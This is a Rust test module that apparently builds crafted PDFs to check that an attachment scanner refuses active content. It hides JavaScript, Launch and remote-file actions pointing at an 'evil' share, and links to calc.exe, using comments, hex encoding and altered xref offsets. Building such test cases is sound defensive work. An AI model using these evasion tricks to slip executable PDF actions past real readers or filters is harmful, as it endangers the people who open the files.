//! Objects where a reader that goes by offsets, or repairs, would find them.

use threadwell_domain::attachment::ContentRefusal;

use super::{
    Pdf,
    attacks::{ACTIVE, BUILT_WRONGLY},
    minimal,
};

const SCRIPT: &str = "9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n";

/// All of them.
pub(super) fn attacks() -> Vec<(&'static str, Vec<u8>, ContentRefusal)> {
    let mut in_stream = Pdf::new("", "");
    in_stream.stream(6, "", SCRIPT.as_bytes());
    let mut behind_length = Pdf::new("", "");
    behind_length.stream(6, "", format!("x\nendstream\nendobj\n{SCRIPT}").as_bytes());
    let mut in_text = Pdf::new("", "");
    in_text.add(6, &format!("<< /Title ({}) >>", SCRIPT.replace('\n', " ")));
    let mut split = Pdf::new("", "");
    split.stream(6, "", SCRIPT.replace("9 0 obj", "9 % 1\n 0 % 2\n obj").as_bytes());
    let file = minimal();
    let comment = format!("%{}\n", SCRIPT.replace('\n', " "));
    let in_comment = [&file[..9], comment.as_bytes(), &file[9..]].concat();
    let trailer = "%trailer << /Root << /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >> >>\n";
    let in_trailer = [&file[..9], trailer.as_bytes(), &file[9..]].concat();
    let mut all = vec![
        ("script in a stream", in_stream.finish(), ACTIVE),
        ("script behind a stream's stated end", behind_length.finish(), ACTIVE),
        ("script in a text", in_text.finish(), ACTIVE),
        ("script with comments in its header", split.finish(), ACTIVE),
        ("script in a comment", in_comment, ACTIVE),
        ("script in a trailer in a comment", in_trailer, ACTIVE),
    ];
    all.extend(types());
    all.extend(addresses());
    all
}

/// The types of actions where a reader finds them that goes by offsets alone.
fn types() -> Vec<(&'static str, Vec<u8>, ContentRefusal)> {
    let action = "<< /S 9 0 R /F (\\\\\\\\evil\\\\share\\\\x.exe) >>";
    let named = |kind: &str| revised(&linked(action, ""), &format!("% 9 0 obj {kind} endobj"), 2);
    vec![
        ("start of a program by a name in a comment", named("/Launch"), ACTIVE),
        ("file elsewhere by a name in a comment", named("/GoToR"), ACTIVE),
        ("form sent by a name in a comment", named("/Submit#46orm"), ACTIVE),
        ("action by the name of nothing", linked(action, "").finish(), ACTIVE),
        ("action by a name elsewhere", linked(action, "/URI").finish(), ACTIVE),
    ]
}

/// Addresses of links where such a reader finds them.
fn addresses() -> Vec<(&'static str, Vec<u8>, ContentRefusal)> {
    let address = |visible: &str, hidden: &str| {
        revised(&linked("<< /S /URI /URI 9 0 R >>", visible), &format!("% 9 0 obj {hidden} endobj"), 2)
    };
    let plain = "(https://example.org)";
    let program = "(file:///c:/windows/system32/calc.exe)";
    let far = format!("%19{}0 obj {program} endobj", " ".repeat(37));
    let mut link = linked("<< /S /URI /URI 19 0 R >>", plain);
    let far = revised(link.add(19, plain), &far, 1);
    let slashes = linked("<< /S /URI /URI (/\\\\evil/x) >>", "");
    vec![
        ("address in a comment", address("", program), ACTIVE),
        ("address in a comment in digits", address("", "<66696c653a2f2f6576696c2f78>"), ACTIVE),
        ("address in a comment beside another", address(plain, program), ACTIVE),
        ("address in a comment by a number", address(plain, "8 0 R"), ACTIVE),
        ("address in a comment as a name", address(plain, "/#2fevil"), ACTIVE),
        ("address in a comment without end", address(plain, "(file://evil/x"), BUILT_WRONGLY),
        ("address in a comment far from its number", far, ACTIVE),
        ("address that is nowhere", linked("<< /S /URI /URI 9 0 R >>", "").finish(), ACTIVE),
        ("address of a share in both slashes", slashes.finish(), ACTIVE),
    ]
}

/// A link with an action (8 in an object), and object 9 if there is one.
fn linked(action: &str, ninth: &str) -> Pdf {
    let mut pdf = Pdf::new("", "/Annots [6 0 R]");
    pdf.add(6, "<< /Subtype /Link /Rect [1 2 3 4] /A 8 0 R >>").add(7, "null").add(8, action);
    if !ninth.is_empty() {
        pdf.add(9, ninth);
    }
    pdf
}

/// The file with a line behind it, and a table that says that object 9 (or 19) begins so far behind the line's start.
fn revised(pdf: &Pdf, line: &str, skip: usize) -> Vec<u8> {
    let mut file = pdf.finish();
    let table = file.windows(5).position(|word| word == b"\nxref").unwrap() + 1;
    let at = file.len() + skip;
    file.extend_from_slice(format!("{line}\n").as_bytes());
    let start = file.len();
    let number = line.split(['%', ' ']).find(|word| !word.is_empty()).unwrap();
    let second =
        format!("xref\n{number} 1\n{at:010} 00000 n \ntrailer\n<< /Size 20 /Root 1 0 R /Prev {table} >>\n");
    file.extend_from_slice(format!("{second}startxref\n{start}\n%%EOF\n").as_bytes());
    file
}
